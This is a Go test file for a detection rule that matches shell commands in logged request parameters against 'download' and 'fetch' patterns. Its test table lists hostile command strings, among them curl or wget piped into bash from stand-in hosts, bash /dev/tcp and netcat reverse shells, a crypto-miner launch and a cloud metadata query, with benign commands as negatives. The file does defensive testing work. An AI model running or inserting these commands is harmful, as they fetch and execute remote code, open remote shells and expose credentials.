package rules

import "testing"

func TestCommandText(t *testing.T) {
	c := openCase(t)
	for _, tc := range []struct {
		command              string
		downloads, fetchesIt bool
	}{
		{`curl http://203.0.113.66/x.sh | bash`, true, true},
		{`curl -fsSL 'https://evil.example/x?a=1&b=2' | sh`, true, false},
		{`wget -qO- https://evil.example/x | sudo /bin/bash -s`, true, false},
		{`curl -s https://evil.example/x.py | python3`, true, false},
		{`wget https://evil.example/m -O /tmp/m; chmod +x /tmp/m`, true, false},
		{`curl https://evil.example/x.sh -o x.sh && bash x.sh`, true, false},
		{"#!/bin/bash\ncurl https://evil.example/x.sh|bash\n", true, false},
		{`bash <(curl -s https://evil.example/x)`, true, false},
		{`bash -c "$(curl -fsSL https://evil.example/x)"`, true, false},
		{"eval `wget -qO- https://evil.example/x`", true, false},
		{`bash -i >& /dev/tcp/203.0.113.66/4444 0>&1`, true, false},
		{`nc -e /bin/sh 203.0.113.66 4444`, true, true},
		{`mkfifo /tmp/f; cat /tmp/f | nc 203.0.113.66 4444 > /tmp/f`, true, true},
		{`echo aGk= | base64 -d`, true, true},
		{`python3 -c "import socket"`, true, false},
		{`./miner -o stratum+ssl://pool.example:3333`, true, false},
		{`curl http://169.254.169.254/latest/meta-data/`, true, true},

		{`curl http://evil.example/payload`, false, true},
		{"#!/bin/sh\nwget 203.0.113.66/m\n", false, true},
		{`base64 /etc/machine-id`, false, true},

		{`curl --version`, false, false},
		{`curl http://localhost:8080/health`, false, false},
		{`curl -fsS https://releases.example.com/agent.rpm -o agent.rpm`, false, false},
		{`VERSION=$(curl -s https://api.example.com/version)`, false, false},
		{`cat /etc/shells | grep bash`, false, false},
		{`git fetch origin; git log | less`, false, false},
		{`systemctl restart nginx`, false, false},
	} {
		t.Run(tc.command, func(t *testing.T) {
			// As it stands in a request, and within the text of a document.
			const inRequest, inDocument = `{commands: [CAST(? AS VARCHAR)]}`, `{content: CAST(to_json({runCommand: [CAST(? AS VARCHAR)]}) AS VARCHAR)}`
			for _, request := range []string{inRequest, inDocument} {
				var downloaded, fetched bool
				err := c.DB.QueryRow(`SELECT regexp_like(request_parameters, '`+downloads+`'), regexp_like(request_parameters, '`+fetches+`')
					FROM (SELECT CAST(to_json(`+request+`) AS VARCHAR) AS request_parameters) AS e`, tc.command).Scan(&downloaded, &fetched)
				if err != nil {
					t.Fatal(err)
				}
				if downloaded != tc.downloads || fetched != tc.fetchesIt {
					t.Errorf("in %s: downloads %v, fetches %v; want %v, %v", request, downloaded, fetched, tc.downloads, tc.fetchesIt)
				}
			}
		})
	}
}
